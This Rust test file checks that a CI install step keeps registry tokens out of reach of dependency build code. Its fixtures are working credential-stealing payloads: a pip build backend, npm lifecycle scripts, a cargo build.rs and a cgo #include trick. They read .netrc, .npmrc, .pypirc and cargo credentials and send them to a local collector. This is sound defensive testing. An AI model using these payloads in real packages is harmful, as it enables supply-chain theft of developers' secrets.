//! Package code that runs while a credential is readable (issue #22, items 1 and 11): a build
//! backend reached through a direct-URL dependency, a git dependency's `prepare`, a crate's
//! `build.rs`, a Go module's cgo. Each test performs the attack against the built binary and
//! asserts that no such code ran where it could read the registry token, or that it ran without
//! the token in reach.

use crate::support::collector::Collector;
use crate::support::fault_server::{serve_private_project, FaultServer, Reply};
use crate::support::harness::*;
use crate::support::packages::{sdist, tarball, wheel};

use std::path::Path;

// ------------------------------------------------------------------ 1: pip direct URLs

/// An in-tree PEP 517 backend that sends `~/.netrc` (and the environment) to the collector, then
/// fails: if it ever runs during the credentialed download, the token is in what it sent.
fn spy_backend(collector: &Collector) -> String {
    format!(
        "{sink}import os\nfound = ['backend ran']\nfor f in (os.path.expanduser('~/.netrc'), os.path.expanduser('~/.pypirc')):\n    try:\n        found.append(f + '\\n' + open(f).read())\n    except OSError:\n        pass\nfound.append(repr(dict(os.environ)))\nsink('\\n'.join(found))\nraise RuntimeError('spy backend')\n",
        sink = collector.python_sink()
    )
}

const SPY_PYPROJECT: &str = "[project]\nname = \"evil\"\nversion = \"1.0\"\n\n[build-system]\nrequires = []\nbuild-backend = \"spy_backend\"\nbackend-path = [\".\"]\n";

/// The `evil` project's source with the spy backend, written into `dir`.
fn write_spy_project(dir: &Path, collector: &Collector) {
    std::fs::create_dir_all(dir).unwrap();
    std::fs::write(dir.join("pyproject.toml"), SPY_PYPROJECT).unwrap();
    std::fs::write(dir.join("spy_backend.py"), spy_backend(collector)).unwrap();
}

/// One direct-URL form of `evil`: the tested wheel `acme_sdk` needs `acme-<form>` from the
/// private index (a wheel, fine to download with the credential), whose metadata says
/// `evil @ <url>`.
fn smoke_with_direct_url(server: &FaultServer, token: &str, form: &str, url: &str) -> Run {
    let files = tempfile::tempdir().unwrap();
    let project = format!("acme-{form}");
    let dep = wheel(
        files.path(),
        &format!("acme_{form}"),
        "1.0.0",
        &[(&format!("acme_{form}/__init__.py"), "")],
        &[&format!("evil @ {url}")],
    );
    serve_private_project(server, token, &project, &dep);
    let work = tempfile::tempdir().unwrap();
    wheel(
        work.path(),
        "acme_sdk",
        "1.0.0",
        &[("acme_sdk/__init__.py", "")],
        &[&format!("{project}>=1.0")],
    );
    let run = Gha::new()
        .input("mode", "smoke-install")
        .input("packages", "acme_sdk-1.0.0-py3-none-any.whl")
        .input("expected-version", "1.0.0")
        .input("registry", &format!("{}/simple/", server.base()))
        .input("registry-token", token)
        .cwd(work.path())
        .run();
    run
}

/// `Requires-Dist: evil @ file:///…`, `@ http://…/evil-1.0.tar.gz` and `@ git+file:///…`: pip
/// builds a direct-URL requirement with its own backend even under `--only-binary=:all:`. With
/// the index credential in the sandbox, smoke-install must refuse such a requirement before pip
/// sees it, naming `evil` and the URL; the backend never runs.
#[test]
fn a_direct_url_dependency_never_builds_while_the_index_credential_is_present() {
    const TOKEN: &str = "pypi-direct-url-spy-token-7c2a9e";
    let server = FaultServer::start();
    let sources = tempfile::tempdir().unwrap();
    let collector = Collector::start();

    // file:// — a source directory.
    let dir = sources.path().join("evil-dir");
    write_spy_project(&dir, &collector);
    // http:// — an sdist tarball on a plain web server.
    let spy = spy_backend(&collector);
    let archive = sdist(
        sources.path(),
        "evil",
        "evil",
        "1.0",
        &[("pyproject.toml", SPY_PYPROJECT), ("spy_backend.py", &spy)],
    );
    server.script(
        "/downloads/evil-1.0.tar.gz",
        vec![Reply::ok(std::fs::read(&archive).unwrap())],
    );
    // git+file:// — a git repository.
    let repo = sources.path().join("evil-git");
    write_spy_project(&repo, &collector);
    git(&repo, &["init", "-q"]);
    commit_all_at(&repo, 1_704_164_645, "evil");

    let forms = [
        ("file", format!("file://{}", dir.display())),
        ("https", server.url("/downloads/evil-1.0.tar.gz")),
        // A host in the URL: `packaging` refuses `git+file:///…` as an invalid URL.
        ("git", format!("git+file://localhost{}", repo.display())),
    ];
    let mut problems = Vec::new();
    for (form, url) in &forms {
        let before = collector.received().len();
        let run = smoke_with_direct_url(&server, TOKEN, form, url);
        let found = collector.received()[before..].trim().to_string();
        let error = run.commands("error").join("\n");
        if found.contains(TOKEN) {
            problems.push(format!(
                "{form}: the backend read the index credential:\n{found}"
            ));
        } else if !found.is_empty() {
            problems.push(format!(
                "{form}: the backend ran during the credentialed download"
            ));
        } else if run.code != 1
            || !(error.contains("evil")
                && error.contains(url.as_str())
                && error.contains("direct URL"))
        {
            problems.push(format!(
                "{form}: not exit 1 with an error naming evil and {url}:\n{}",
                run.describe()
            ));
        }
    }
    assert!(problems.is_empty(), "{}", problems.join("\n\n"));
}

// ------------------------------------------------------------------ 11: Go cgo

/// `token` appears in no output, summary, log line (but the runner's `::add-mask::`) or file
/// left in the harness's temp dir.
#[track_caller]
fn assert_token_nowhere(run: &Run, gha: &Gha, token: &str) {
    for text in [&run.stderr, &run.output_text, &run.summary] {
        assert!(!text.contains(token), "{}", run.describe());
    }
    assert!(
        run.stdout
            .lines()
            .filter(|l| !l.starts_with("::add-mask::"))
            .all(|l| !l.contains(token)),
        "{}",
        run.describe()
    );
    let mut stack = vec![gha.path().to_path_buf()];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).unwrap().flatten() {
            let path = entry.path();
            if path.is_dir() {
                stack.push(path);
            } else if std::fs::read(&path)
                .is_ok_and(|b| String::from_utf8_lossy(&b).contains(token))
            {
                panic!("{} holds the token", path.display());
            }
        }
    }
}

/// A private GOPROXY (https, its own CA, Basic auth as `__token__`) serving `example.com/dep`
/// v1.0.0 made of `files`.
fn private_goproxy(root: &Path, files: &[(&str, &str)]) {
    use std::io::Write as _;
    let at_v = root.join("example.com/dep/@v");
    std::fs::create_dir_all(&at_v).unwrap();
    let dep_mod = "module example.com/dep\n\ngo 1.19\n";
    std::fs::write(at_v.join("list"), "v1.0.0\n").unwrap();
    std::fs::write(
        at_v.join("v1.0.0.info"),
        r#"{"Version":"v1.0.0","Time":"2026-01-02T03:04:05Z"}"#,
    )
    .unwrap();
    std::fs::write(at_v.join("v1.0.0.mod"), dep_mod).unwrap();
    let mut zip = zip::ZipWriter::new(std::fs::File::create(at_v.join("v1.0.0.zip")).unwrap());
    let options = zip::write::SimpleFileOptions::default();
    for (name, text) in std::iter::once(&("go.mod", dep_mod)).chain(files) {
        zip.start_file(format!("example.com/dep@v1.0.0/{name}"), options)
            .unwrap();
        zip.write_all(text.as_bytes()).unwrap();
    }
    zip.finish().unwrap();
}

/// C code of a dependency, compiled by cgo during `go build`: it includes the sandbox's
/// `~/.netrc` (found from the module cache, `$GOMODCACHE/example.com/dep@v1.0.0`, five levels
/// below the sandbox that holds `home/`), so gcc's error echoes the token into the build log and
/// the step's summary. The credential must be gone before anything is built; the build then
/// passes (the include is guarded by `__has_include`).
#[test]
fn cgo_code_of_a_private_go_module_never_reads_the_goproxy_credential() {
    const TOKEN: &str = "goproxy-cgo-spy-token-51d0c3";
    let proxy = tempfile::tempdir().unwrap();
    private_goproxy(
        proxy.path(),
        &[
            (
                "dep.go",
                "// Package dep has C code.\npackage dep\n\n// int dep_word(void);\nimport \"C\"\n\n// Word is C's.\nfunc Word() int { return int(C.dep_word()) }\n",
            ),
            (
                "steal.c",
                "#if __has_include(\"../../../../../home/.netrc\")\n#include \"../../../../../home/.netrc\"\n#endif\nint dep_word(void) { return 42; }\n",
            ),
        ],
    );
    let authorization = crate::support::fault_server::token_authorization(TOKEN);
    let (server, cert) =
        crate::support::servers::https_static_with_auth(proxy.path(), &authorization);
    let work = tempfile::tempdir().unwrap();
    for (name, text) in [
        ("go.mod", "module example.com/app\n\ngo 1.19\n\nrequire example.com/dep v1.0.0\n"),
        ("app.go", "// Package app uses the private dependency.\npackage app\n\nimport \"example.com/dep\"\n\n// Hello is dep's word.\nfunc Hello() int { return dep.Word() }\n"),
    ] {
        let path = work.path().join("app").join(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }
    let gha = Gha::new()
        .input("mode", "smoke-install")
        .input("packages", "app")
        .input("expected-version", "v1.2.3")
        .input("registry", &format!("https://127.0.0.1:{}/", server.port))
        .input("registry-token", TOKEN)
        .env("SSL_CERT_FILE", cert.to_str().unwrap())
        .env("CGO_ENABLED", "1")
        .cwd(work.path());
    let run = gha.run();
    assert_token_nowhere(&run, &gha, TOKEN);
    run.assert_code(0);
    assert!(
        run.stdout.contains("go build example.com/app: ok"),
        "{}",
        run.describe()
    );
}

// ------------------------------------------------------------------ 1: npm git and tarball deps

/// A dependency's lifecycle script: appends "ran <script>", then every npmrc it can reach (the
/// sandbox's HOME, each directory from its own up to `/`, INIT_CWD's), to the collector.
fn npm_spy(collector: &Collector) -> String {
    format!(
        r#"const fs = require('fs'), os = require('os'), path = require('path');
{sink}
let out = `ran ${{process.env.npm_lifecycle_event}} in ${{process.cwd()}}\n`;
const files = [path.join(os.homedir(), '.npmrc')];
for (let dir = process.cwd(); ; dir = path.dirname(dir)) {{
  files.push(path.join(dir, '.npmrc'));
  if (dir === path.dirname(dir)) break;
}}
if (process.env.INIT_CWD) files.push(path.join(process.env.INIT_CWD, '.npmrc'));
for (const file of files) {{
  try {{ out += `=== file ${{file}}\n` + fs.readFileSync(file, 'latin1') + '\n'; }} catch (e) {{}}
}}
sink(out);
"#,
        sink = collector.node_sink()
    )
}

/// The tested tarball depends on `evil` by git URL (`git+file://`, whose `prepare` npm runs when
/// it packs the clone) and on `spy` by tarball URL (plain http): with `registry-token`, neither
/// dependency's scripts may run while the token is readable. Scripts that run at all run after
/// the credential is removed (the `npm rebuild` step), so whatever they find holds no token.
#[test]
fn git_and_tarball_dependencies_run_no_script_while_the_npm_token_is_readable() {
    const TOKEN: &str = "npm_gitDEPspyTOKEN0123456789abcdef";
    let server = FaultServer::start();
    let work = tempfile::tempdir().unwrap();
    let collector = Collector::start();
    let spy = npm_spy(&collector);
    let scripts = r#""scripts": {"prepare": "node spy.js", "preinstall": "node spy.js", "install": "node spy.js", "postinstall": "node spy.js"}"#;
    let repo = work.path().join("evil-git");
    std::fs::create_dir_all(&repo).unwrap();
    std::fs::write(
        repo.join("package.json"),
        format!(r#"{{"name": "evil", "version": "1.0.0", "main": "index.js", {scripts}}}"#),
    )
    .unwrap();
    std::fs::write(repo.join("index.js"), "exports.ok = true;\n").unwrap();
    std::fs::write(repo.join("spy.js"), &spy).unwrap();
    git(&repo, &["init", "-q"]);
    commit_all_at(&repo, 1_704_164_645, "evil");
    let spy_manifest =
        format!(r#"{{"name": "spy", "version": "1.0.0", "main": "index.js", {scripts}}}"#);
    server.script(
        "/downloads/spy-1.0.0.tgz",
        vec![Reply::ok(tarball(
            "package",
            &[
                ("package.json", &spy_manifest),
                ("index.js", "exports.ok = true;\n"),
                ("spy.js", &spy),
            ],
        ))],
    );
    let app_manifest = format!(
        r#"{{"name": "@acme/app", "version": "1.2.3", "main": "index.js", "dependencies": {{"evil": "git+file://{}", "spy": "{}"}}}}"#,
        repo.display(),
        server.url("/downloads/spy-1.0.0.tgz")
    );
    std::fs::write(
        work.path().join("app-1.2.3.tgz"),
        tarball(
            "package",
            &[
                ("package.json", &app_manifest),
                ("index.js", "require('evil'); require('spy');\n"),
            ],
        ),
    )
    .unwrap();
    let smoke = |manager: &str, token: Option<&str>| {
        let before = collector.received().len();
        let mut gha = Gha::new()
            .input("mode", "smoke-install")
            .input("packages", "app-1.2.3.tgz")
            .input("expected-version", "1.2.3")
            .input("package-manager", manager)
            .input("registry", &format!("{}/npm/", server.base()))
            .cwd(work.path());
        if let Some(token) = token {
            gha = gha.input("registry-token", token);
        }
        let run = gha.run();
        let found = collector.received()[before..].to_string();
        (run, found)
    };
    // The control: without a credential npm runs the git dependency's `prepare` (the spy is live).
    let (run, found) = smoke("npm", None);
    run.assert_code(0);
    assert!(found.contains("ran prepare"), "{found}\n{}", run.describe());
    for manager in ["npm", "pnpm"] {
        let (run, found) = smoke(manager, Some(TOKEN));
        assert!(
            !found.contains(TOKEN),
            "{manager}: a dependency's script read the token:\n{found}"
        );
        run.assert_code(0);
        assert_eq!(run.out("passed"), "true", "{manager}: {}", run.describe());
        if manager == "npm" {
            // The scripts ran, after the credential was removed (`npm rebuild`).
            assert!(found.contains("ran postinstall"), "{found}");
        }
    }
}

// ------------------------------------------------------------------ 1: cargo build.rs

/// `cargo package` of a library crate with a `build.rs`; returns the `.crate` path.
fn crate_with_build_script(dir: &Path, build_rs: &str) -> std::path::PathBuf {
    crate::ecosystem::cargo::cargo_package_with_build_script(
        dir,
        "build-spy",
        "0.1.0",
        "pub fn answer() -> u32 { 42 }\n",
        Some(build_rs),
    )
}

/// A crate's `build.rs` runs during smoke-install's `cargo build`, with `registry-token` given
/// and `CARGO_REGISTRY_TOKEN` in the runner's environment: it must run (it reports) and
/// find the token in no credential file of the sandbox's HOME or CARGO_HOME, nor in its
/// environment. cargo builds offline from a local registry, so it never needs the credential.
#[test]
fn a_crate_build_script_never_sees_a_registry_credential() {
    const TOKEN: &str = "cargo_buildRSspyTOKEN0123456789abcdef";
    let work = tempfile::tempdir().unwrap();
    let collector = Collector::start();
    let build_rs = format!(
        r#"use std::path::PathBuf;
fn main() {{
    let mut out = String::from("build.rs ran\n");
    let home = PathBuf::from(std::env::var("HOME").unwrap_or_default());
    let cargo_home = PathBuf::from(std::env::var("CARGO_HOME").unwrap_or_default());
    for file in [
        home.join(".cargo/credentials.toml"), home.join(".cargo/credentials"),
        cargo_home.join("credentials.toml"), cargo_home.join("credentials"),
        home.join(".netrc"), home.join(".npmrc"), home.join(".pypirc"),
    ] {{
        if let Ok(text) = std::fs::read_to_string(&file) {{
            out.push_str(&format!("=== {{}}\n{{text}}\n", file.display()));
        }}
    }}
    for (key, value) in std::env::vars() {{
        out.push_str(&format!("{{key}}={{value}}\n"));
    }}
    use std::io::Write;
    let mut sink = std::net::TcpStream::connect(("127.0.0.1", {port})).unwrap();
    sink.write_all(out.as_bytes()).unwrap();
}}
"#,
        port = collector.port()
    );
    crate_with_build_script(work.path(), &build_rs);
    // (`registry` is refused with crates: they are smoked offline.)
    let run = Gha::new()
        .input("mode", "smoke-install")
        .input("packages", "build-spy-0.1.0.crate")
        .input("expected-version", "0.1.0")
        .input("registry-token", TOKEN)
        .env("CARGO_REGISTRY_TOKEN", TOKEN)
        .cwd(work.path())
        .run();
    let found = collector.received().trim().to_string();
    assert!(
        found.starts_with("build.rs ran"),
        "the build script did not run:\n{}",
        run.describe()
    );
    assert!(!found.contains(TOKEN), "build.rs found the token:\n{found}");
    run.assert_code(0);
}

/// The level-by-level download still resolves what pip would: a dependency of a dependency, a
/// dependency's extra (`acme-base[fast]` pulls `acme-speed`), and markers that exclude a
/// requirement (a direct URL only under an extra nobody asked for, a package only for Python 2)
/// are left out rather than refused. The install passes and nothing was built.
#[test]
fn a_credentialed_wheel_install_follows_dependencies_extras_and_markers() {
    const TOKEN: &str = "pypi-levels-token-3e8b1f";
    let server = FaultServer::start();
    let files = tempfile::tempdir().unwrap();
    let collector = Collector::start();
    let evil = files.path().join("evil-dir");
    write_spy_project(&evil, &collector);
    let base = wheel(
        files.path(),
        "acme_base",
        "2.0.0",
        &[("acme_base/__init__.py", "")],
        &[
            // (one more METADATA header: pip installs only a declared extra)
            "acme-speed>=1; extra == \"fast\"\nProvides-Extra: fast",
            // A URL needs a space before its marker (PEP 508).
            &format!("evil @ file://{} ; extra == \"never\"", evil.display()),
            "acme-legacy; python_version < \"3\"",
        ],
    );
    let speed = wheel(
        files.path(),
        "acme_speed",
        "1.1.0",
        &[("acme_speed/__init__.py", "")],
        &[],
    );
    serve_private_project(&server, TOKEN, "acme-base", &base);
    serve_private_project(&server, TOKEN, "acme-speed", &speed);
    let work = tempfile::tempdir().unwrap();
    wheel(
        work.path(),
        "acme_sdk",
        "1.0.0",
        &[("acme_sdk/__init__.py", "import acme_base, acme_speed\n")],
        &["acme-base[fast]>=2"],
    );
    let run = Gha::new()
        .input("mode", "smoke-install")
        .input("packages", "acme_sdk-1.0.0-py3-none-any.whl")
        .input("expected-version", "1.0.0")
        .input("registry", &format!("{}/simple/", server.base()))
        .input("registry-token", TOKEN)
        .cwd(work.path())
        .run();
    assert_eq!(collector.received().trim(), "", "a build backend ran");
    run.assert_code(0);
    assert_eq!(run.out("passed"), "true", "{}", run.describe());
    assert!(
        server.count("/simple/acme-speed/") > 0,
        "{}",
        run.describe()
    );
    assert_eq!(server.count("/simple/acme-legacy/"), 0);
}
